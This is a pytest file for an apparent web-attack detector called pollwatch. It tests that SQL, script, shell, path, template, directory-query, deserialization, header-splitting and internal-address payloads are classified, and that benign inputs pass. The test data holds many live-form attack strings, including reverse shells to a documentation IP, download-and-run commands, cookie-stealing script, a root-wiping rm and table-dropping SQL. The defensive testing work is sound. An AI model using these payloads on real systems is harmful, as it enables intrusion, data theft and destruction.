# ruff: noqa: E501 - lists of values read best unbroken
"""Each grammar knows its language by its structure: in every place, dialect and disguise, and nothing that only looks so."""

from __future__ import annotations

import base64
from itertools import product

import pytest

from pollwatch.events.grammar import addresses, code, files, judge, markup, objects, queries, shell, splitting, sql

#: The places in a query where a site may put a value, and how an attack leaves them.
BREAKS = ["7", "x'", 'x"', "7)", "x')", "x')) ", "9%'", "0x7", "-1"]
CONDITIONS = [
    "or 41=41", "and 3<>4", "or 'k'='k'", "oR(5)=(5)", "xor 1 between 0 and 2", "and ascii(substr(database(),1,1))>77", "or exists(select 1)",
    "and (select count(*) from voters)>0", "|| 2=2", "&& 1 in (1,2)", "and not 5 is null", "or length(user())=8", "and case when 2>1 then 1 else 0 end=1",
]  # fmt: skip
ENDINGS = ["", "--", "-- x", "#", "/*", ";--"]


@pytest.mark.parametrize("start", BREAKS)
def test_conditions_in_every_place(start: str) -> None:
    """An injected condition is one whatever closes the site's own value, and whatever cuts off the rest."""
    missed = [
        text
        for condition, end in product(CONDITIONS, ENDINGS)
        if not sql.kinds(text := f"{start} {condition} {end}".strip())
    ]
    assert missed == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("3 union select null,null,version()", "union"),
        ("x') union all select top 5 name,dob from dbo.voters--", "union"),
        ("1 union distinct(select(1),(2))#", "union"),
        ("7/**/union/**/select/**/1,2", "disguise"),
        ("1e0union select 1,2 from t where 1", "union"),
        ("1; drop table ballots cascade", "statement"),
        ("1');insert into users(name,role) values('a','admin')--", "statement"),
        ("1; update accounts set role='admin' where id=3", "statement"),
        ("1;exec master..xp_cmdshell 'dir'", "statement"),
        ("'; declare @q varchar(99); set @q=0x61; exec(@q)--", "statement"),
        ("1; waitfor delay '0:0:9'", "delay"),
        ("1 and pg_sleep(4) is null", "delay"),
        ("(select*from(select(sleep(7)))a)", "delay"),
        ("1-benchmark(9000000,sha1(1))", "delay"),
        ("1 and extractvalue(1,concat(0x7e,(select user())))", "function"),
        ("' || utl_inaddr.get_host_address((select user from dual)) ||'", "function"),
        ("1 into outfile '/var/www/a.php'", "function"),
        ("@@datadir", "function"),
        ("iif(2>1,1,0)", "conditional"),
        ("1 and elt(2>1,5)=5", "conditional"),
        ("1 union select name from sqlite_master", "schema"),
        ("1 and (select count(*) from information_schema.tables)>3", "schema"),
        ("9 order by 14--", "clause"),
        ("9) group by 1 having 1=1", "clause"),
        ("admin'-- ", "cut"),
        ("admin')#", "cut"),
        ("'.)(,\"'(,", "probe"),
        ("'{\"a\":1}'::jsonb @> '{}'::jsonb or 1=1", "logic"),
        ("$$a$$=$$a$$ or 2=2", "logic"),
        ("9--x\nunion--y\nselect 1,2", "union"),
        ("9)#a\nor#b\n4=4", "logic"),
        ("9 un/**/ion sel/**/ect 1,name fr/**/om voters", "union"),
        ("9' o/**/r 3=3", "disguise"),
        ("7 1.e) 1.e) and sleep 1.e(4 1.e)", "delay"),
        ("9$$) or 4=4 and ($$a$$=$$a", "logic"),
        ("9.union select 1,2", "union"),
        ("-9dunion all select 1,2--", "union"),
        ("(select 'a' where 4=4;iif(3=3,1,1/0)", "conditional"),
        ("(5=5)*7", "logic"),
        ("'[1]' < '$.a' = 7", "logic"),
        ("drop voters;--", "statement"),
    ],
)  # fmt: skip
def test_sql_by_what_it_does(text: str, kind: str) -> None:
    """What a fragment does is told: join a query, stack a statement, wait, cut off, ask the database about itself."""
    assert kind in sql.kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "<svg/onload=alert(7)>", "<ScRiPt src=//e.example/a>", "<img src=x onerror=fetch('//e.example/'+document.cookie)>", '"><details open ontoggle=confirm`1`>',
        "' autofocus onfocus=alert(1) x='", "javascript:alert(1)", "jav\tascript:eval(name)", '<a href="data:text/html,<script>1</script>">x</a>', "</title><script>new Image().src='//e'</script>",
        "<math><mi xlink:href='javascript:1+alert(1)'>x", "<iframe srcdoc='&lt;script&gt;'>", "';alert(document.domain)//", "<style>@import'//e.example/a.css'</style>", "<x onpointerenter=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>", "+ADw-script+AD4-alert(1)", '<body background="javascript:alert(1)">', "top['al'+'ert'](1)", '<div style="width:expression(alert(1))">',
    ],
)  # fmt: skip
def test_markup_that_browsers_run(text: str) -> None:
    """Script in elements, handlers, addresses, style, and out of strings."""
    assert markup.kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        ";id", "| cat /etc/hosts", "a && wget http://203.0.113.9/x -O- | sh", "$(curl 203.0.113.9)", "`whoami`", "x;/bin/ls -la", "127.0.0.1;ping -c 3 203.0.113.9", "%0a".replace("%0a", "\n") + "uname -a",
        "c\\at${IFS}/etc/passwd", ";c''at /etc/passwd", ";/???/c?t /etc/passwd", "{cat,/etc/passwd}", ";$(printf 'l\\x73')", "() { :;}; echo x", "a|nc -e /bin/sh 203.0.113.9 4444", "bash -i >& /dev/tcp/203.0.113.9/99 0>&1",
        "python3 -c 'import os'", "&& rm -rf --no-preserve-root /", "cat /etc/passwd", "${PATH:0:1}bin", "; sleep 9 ;", "cmd /c whoami", "powershell -enc SQBFAFgA", "& dir c:\\", "| type %windir%\\win.ini", "for /f %i in ('whoami') do echo %i",
        ";Get-ChildItem -Path c:\\", "x & certutil -urlcache -f http://203.0.113.9/a a.exe", "iex(new-object net.webclient).downloadstring('http://e')", "nohup curl 203.0.113.9",
        "whoami;0'0'", "{,echo,#a}", "{,/?s?/b?n/c?t,}", "$(whoami$(()))", "$(( $(id) 4))", "ldconfig --verbose -p", ";at 2:00 id", "a|env", "if (aa) == (aa) echo x", "if/i a==b type c",
    ],
)  # fmt: skip
def test_command_lines(text: str) -> None:
    """Commands behind separators, in substitutions, alone, in disguise, of Unix and of Windows."""
    assert shell.kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//x", "/etc/shadow", "c:\\windows\\system32\\drivers\\etc\\hosts", "php://filter/read=string.rot13/resource=a.php", "file:///proc/self/environ", "/a/..;/manager/html",
        "/WEB-INF/web.xml", "\\\\203.0.113.9\\share\\a", "expect://id", "0x2e0x2e/0x2e0x2e/x", "jar:http://e.example!/a", "/proc/self/fd/3", "phar://a.jpg/b", "index.php::$DATA", "data:;base64,PD9waHA=",
    ],
)  # fmt: skip
def test_files_of_the_machine(text: str) -> None:
    """Paths that climb, that begin at the root, and addresses that are read as files."""
    assert files.kinds(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<?php system($_GET[1]);", "php"), ("phpinfo()", "php"), ("<?\tphp echo 1", "php"), ("<? echo 1", "php"), ("memory_limit = 512M", "php"), ("exec //c\r\n (a)", "php"), ("fopen  (blah)", "php"), ('return"system"(x).y', "php"), ("$_x['a']", "php"), ("<% if true %>4<% end %>", "template"), ("call_user_func_array('system',['id'])", "php"), ("('sys'.'tem')('id')", "php"), ("${@print(md5(7))}", "php"),
        ("require('child_process').exec('id')", "javascript"), ("a[constructor][prototype][x]", "javascript"), ("__proto__.admin", "javascript"), ("().__class__.__mro__[1]", "javascript"), ("while(true){}", "javascript"),
        ("T(java.lang.Runtime).getRuntime().exec('id')", "java"), ("class.module.classLoader.resources", "java"), ("(#a=@java.lang.Runtime@getRuntime())", "java"), ("%{#context['xwork']}", "java"),
        ("{{7*7}}", "template"), ("${7*191}", "template"), ("{{config.items()}}", "template"), ("{% for x in y %}", "template"), ("<%= 7*7 %>", "template"), ("#{3*4}", "template"), ("{{''.__class__}}", "template"),
        ("${jndi:ldap://203.0.113.9/a}", "lookup"), ("${${::-j}ndi:rmi://e/a}", "lookup"), ('<!--#exec cmd="id"-->', "include"),
    ],
)  # fmt: skip
def test_programs(text: str, kind: str) -> None:
    """PHP, JavaScript, Java's languages, templates, look-ups, server-side includes."""
    assert kind in code.kinds(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("*)(uid=*))(|(uid=*", "ldap"), ("admin)(&(password=*)", "ldap"), ("' or count(/user/child::node())=1 or 'a'='b", "xpath"), ("x']|//*|/x['", "xpath"),
        ("user[$ne]", "nosql"), ('{"$where":"sleep(1)"}', "nosql"), ("';return true;var a='", "nosql"), ("x' || this.password.match(/a/)", "nosql"),
    ],
)  # fmt: skip
def test_conditions_of_other_databases(text: str, kind: str) -> None:
    """Directories, XML and document databases have injections of their own."""
    assert kind in queries.kinds(text)


def test_objects_are_known_by_their_form() -> None:
    """Objects of PHP, Java, .NET, Python, YAML and Node, which run code where they are taken in."""
    told = {
        "php": 'O:4:"User":1:{s:1:"a";i:1;}',
        "java": base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap").decode(),
        "dotnet": base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00").decode(),
        "yaml": "!!python/object/apply:os.system ['id']",
        "pickle": "cos\nsystem\n(S'id'\ntR.",
        "node": '{"a":"_$$ND_FUNC$$_function(){}()"}',
    }
    assert {kind for kind, text in told.items() if kind in objects.kinds(text)} == set(told)


@pytest.mark.parametrize(
    ("text", "kind"),
    [("a\r\nSet-Cookie: x=1", "header"), ("a\nX-Forwarded-Host: e", "header"), ("a\r\nRCPT TO:<b@c>", "mail"), ("a\r\nFLUSHALL", "store"), ("GET /admin HTTP/1.1", "request")],
)  # fmt: skip
def test_protocol_behind_a_line_break(text: str, kind: str) -> None:
    """Headers, mail commands, cache commands and whole requests smuggled into a value."""
    assert kind in splitting.kinds(text)


@pytest.mark.parametrize(
    "text",
    ["http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1", "http://[::1]/", "http://[::ffff:7f00:1]/", "http://a@169.254.169.254/latest", "gopher://localhost:6379/_", "http://①②⑦.⓪.⓪.①/", "http://127.0.0.1.nip.io/", "http://10.2.3.4/x"],
)  # fmt: skip
def test_addresses_inside(text: str) -> None:
    """The server's own machine, network and cloud, in every way a library reads a number."""
    assert addresses.kinds(text)


def test_addresses_outside_are_nobodys_business() -> None:
    """Links and redirect targets."""
    for text in (
        "https://www.example.org/a?b=1",
        "http://203.0.113.7/",
        "https://[2001:db8::7]/x",
        "mailto:a@b.org",
        "12:30",
        "tel:15551234567",
    ):
        assert addresses.kinds(text) - {"odd"} == set(), text


def test_a_message_of_a_person_is_no_header() -> None:
    """Somebody wrote several lines in a form."""
    assert splitting.kinds("Hello,\r\n\r\nwhere do I vote?\r\nTo: be clear, I moved.\r\n- Ann") == set()


def test_base64_is_read() -> None:
    """Script that hides in base64 is script; honest text in base64 is nothing."""
    assert "code.javascript" in judge.kinds_of(base64.b64encode(b"require('child_process')").decode())
    assert judge.kinds_of(base64.b64encode(b"Where do I vote? (Mon)").decode()) == set()


def test_findings_say_where() -> None:
    """A finding names the parameter and quotes the value, decoded."""
    found = judge.of_uri("/status?a=1&id=7%27%20or%20%271%27=%271")
    assert [(each.kind, each.place, each.text) for each in found] == [("sql.logic", "parameter id", "7' or '1'='1")]


def test_a_map_service_may_ask_for_everything() -> None:
    """``where=1=1`` is how map services are asked for all rows; elsewhere the same is an injection."""
    assert judge.of_uri("/arcgis/rest/services/P/MapServer/0/query?where=1%3D1&f=json") == []
    assert judge.of_uri("/x?id=1%3D1") != []
